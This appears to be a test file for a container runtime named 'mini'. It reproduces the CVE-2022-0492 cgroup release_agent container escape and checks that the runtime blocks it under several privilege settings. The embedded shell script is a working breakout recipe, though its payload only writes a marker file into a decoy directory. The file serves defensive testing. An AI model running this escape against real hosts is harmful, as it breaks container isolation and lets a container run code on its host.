import { spawnSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { detectCgroupLayout } from '@mini/cgroup-manager';
import { execa } from 'execa';
import { MINI } from '../support/mini.js';
import { freshBusyboxRoot, freshDirectory } from '../support/roots.js';
import { testUnless } from '../support/skip.js';
import { type Decoy, makeDecoy } from './support/decoy.js';

/** A hierarchy without controllers, of this test's own: the machine's have an agent for all of it. */
const HIERARCHY = `mini-attack-${process.pid}`;

/** In a container: CVE-2022-0492. Ends with the number of the step that it failed at. */
const attack = (root: string, { path }: Decoy) => `
  mkdir -p /mnt && mount -t cgroup -o none,name=${HIERARCHY} cgroup /mnt || exit 41
  printf '#!/bin/sh\\necho taken >${path}/taken\\n' >/agent && chmod 755 /agent || exit 42
  mkdir /mnt/left && echo 1 >/mnt/left/notify_on_release || exit 43
  echo ${root}/agent >/mnt/release_agent || exit 44
  sh -c 'echo $$ >/mnt/left/cgroup.procs' || exit 45`;

/**
 * Around it: makes the hierarchy where nobody else sees it mounted, prints the agent that the container has set, and waits
 * for what the kernel makes of that, half a minute at most. The hierarchy goes with its last mount, unless the kernel is not
 * done yet with a group that was removed: then with the last of another.
 */
const AROUND = `
  place=$1 taken=$2; shift 2
  mount -t cgroup -o none,name=${HIERARCHY} cgroup $place || exit 40
  "$@" 2>/dev/null; code=$?
  cat $place/release_agent
  for i in $(seq 300); do test ! -s $place/release_agent -o -e $taken && break; sleep 0.1; done
  find $place -mindepth 1 -depth -type d -exec rmdir {} +
  for i in $(seq 100); do
    umount $place && sleep 0.3
    grep -q ${HIERARCHY} /proc/self/cgroup || exit $code
    mount -t cgroup -o none,name=${HIERARCHY} cgroup $place
  done
  exit 46`;

async function tryAttack(flags: readonly string[], decoy: Decoy) {
  const root = freshBusyboxRoot();
  const container = [MINI, 'run', '--rm', ...flags, '--rootfs', root, 'sh', '-c', attack(root, decoy)];
  const words = ['--mount', '--propagation', 'private', 'sh', '-c', AROUND, 'sh', freshDirectory()];
  const { exitCode, stdout } = await execa('unshare', [...words, join(decoy.path, 'taken'), ...container], {
    reject: false,
    stdin: 'ignore',
  });
  return { exitCode, isSet: stdout === join(root, 'agent') };
}

/** Only the first cgroup namespace may make a hierarchy; mini would take a machine of version 2 alone for a hybrid one by it. */
function whyNoHierarchy(): string | undefined {
  if (detectCgroupLayout().mode === 'v2') return 'this machine has no control groups of version 1';
  const script = `mount -t cgroup -o none,name=${HIERARCHY} cgroup "$0" && umount "$0"`;
  const words = ['--mount', '--propagation', 'private', 'sh', '-c', script, freshDirectory()];
  return spawnSync('unshare', words).status === 0
    ? undefined
    : 'a hierarchy of control groups of version 1 cannot be made here';
}

const reason = whyNoHierarchy();
const ID = 'attacks.release-agent';

testUnless(reason, ID, 'a release agent is set by nobody who sees no more than the own group', async (t) => {
  const decoy = makeDecoy();
  const before = decoy.digest();
  t.deepEqual(await tryAttack([], decoy), { exitCode: 41, isSet: false });
  for (const flags of [
    ['--cap-add', 'SYS_ADMIN', '--security-opt', 'seccomp=unconfined'],
    ['--privileged'],
  ]) {
    t.deepEqual(await tryAttack(flags, decoy), { exitCode: 44, isSet: false }, flags.join(' '));
  }
  t.is(decoy.digest(), before);
});

testUnless(
  reason,
  ID,
  'one is set, and the host runs it, without a namespace of control groups: the attack is real',
  async (t) => {
    const decoy = makeDecoy();
    const flags = ['--privileged', '--cgroupns', 'host'];
    t.deepEqual(await tryAttack(flags, decoy), { exitCode: 0, isSet: true });
    t.true(existsSync(join(decoy.path, 'taken')), 'the host has run what a file of the container says');
  },
);
